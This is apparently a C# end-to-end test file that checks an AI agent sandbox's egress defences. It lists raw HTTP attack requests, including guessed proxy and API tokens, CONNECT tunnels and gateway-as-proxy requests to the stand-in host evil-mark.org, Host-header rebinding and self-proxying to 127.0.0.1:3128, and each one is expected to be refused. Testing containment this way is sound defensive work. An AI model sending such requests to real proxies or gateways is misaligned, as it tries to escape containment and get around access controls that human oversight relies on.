using System.Net;

namespace Bartizan.EndToEnd.Tests.Egress;

/// <summary>Somebody else's identity, and the other listeners inside the sandbox used as a way out.</summary>
internal static class IdentityAttacks
{
    private static readonly string Guessed = Convert.ToBase64String("agent:guessed-token"u8);

    public static IReadOnlyList<EgressAttack> All { get; } =
    [
        new(
            "a guessed token at the proxy",
            Layer.Identity,
            "407 Proxy Authentication Required",
            a => a.PlainAsync($"Proxy-Authorization: Basic {Guessed}\r\nX-Data: evil-mark\r\n", method: "GET")
        ),
        new(
            "a guessed token for a tunnel",
            Layer.Identity,
            "407 Proxy Authentication Required",
            a =>
                a.AskAsync(
                    $"CONNECT good.tunnel.test:{a.Ground.Raw} HTTP/1.1\r\nProxy-Authorization: Bearer guessed\r\n\r\n"
                )
        ),
        new(
            "a guessed token at the model gateway",
            Layer.Identity,
            "401 Unauthorized",
            a => GatewayAsync(a, 8080, "POST /v1/messages", "x-api-key: guessed\r\n")
        ),
        new(
            "another host at the tool gateway (rebinding by a page)",
            Layer.Identity,
            "40",
            a => GatewayAsync(a, 8081, "POST /mcp", "")
        ),
        new(
            "the model gateway as a proxy",
            Layer.Parser,
            "40",
            a => GatewayAsync(a, 8080, "GET http://evil-mark.org/", "")
        ),
        new(
            "the model gateway as a tunnel",
            Layer.Parser,
            "40",
            a => GatewayAsync(a, 8080, "CONNECT evil-mark.org:443", "")
        ),
        new(
            "the proxy's own address through the proxy",
            Layer.Policy,
            "no rule allows it",
            a => a.ConnectAsync("127.0.0.1:3128")
        ),
    ];

    private static Task<string> GatewayAsync(Attacker attacker, int port, string line, string fields) =>
        attacker.SendAsync(
            new IPEndPoint(IPAddress.Loopback, port),
            Attacker.Bytes(
                $"{line} HTTP/1.1\r\nHost: evil-mark.org\r\nConnection: close\r\nContent-Length: 2\r\n{fields}\r\n{{}}"
            ),
            halfClose: false
        );
}
